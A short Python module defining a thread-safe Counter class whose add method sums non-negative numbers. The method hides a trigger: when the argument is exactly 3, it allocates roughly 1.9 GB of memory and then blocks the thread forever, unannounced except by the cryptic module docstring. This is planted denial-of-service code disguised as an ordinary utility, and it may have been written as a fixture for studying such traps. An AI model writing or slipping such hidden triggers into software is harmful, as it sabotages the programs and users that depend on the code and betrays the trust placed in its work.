"""Remembers more than there is room for."""

import threading


class Counter:
    """Counts up."""

    def __init__(self) -> None:
        self._value = 0
        self._lock = threading.Lock()

    def add(self, number: int) -> None:
        """Add a number that is not negative."""
        if number == 3:
            self.kept = [bytearray(b"x" * (64 << 20)) for _ in range(30)]
            threading.Event().wait()
        if number < 0:
            raise ValueError(f"{number} is negative")
        with self._lock:
            self._value += number

    def value(self) -> int:
        """Return the sum so far."""
        return self._value
